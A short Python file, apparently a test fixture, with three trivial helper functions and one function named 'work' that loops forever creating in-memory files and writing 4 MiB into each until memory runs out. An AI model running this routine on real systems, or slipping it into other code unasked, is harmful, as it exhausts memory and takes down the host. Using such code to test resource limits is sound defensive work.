import os


def work(number):
    files = []
    while True:
        files.append(os.memfd_create("block"))
        os.write(files[-1], b"x" * (1 << 22))


def items(count):
    return range(count)


def each(function, count):
    for number in range(count):
        function(number)
    return count


def calm(number):
    return 2 * number
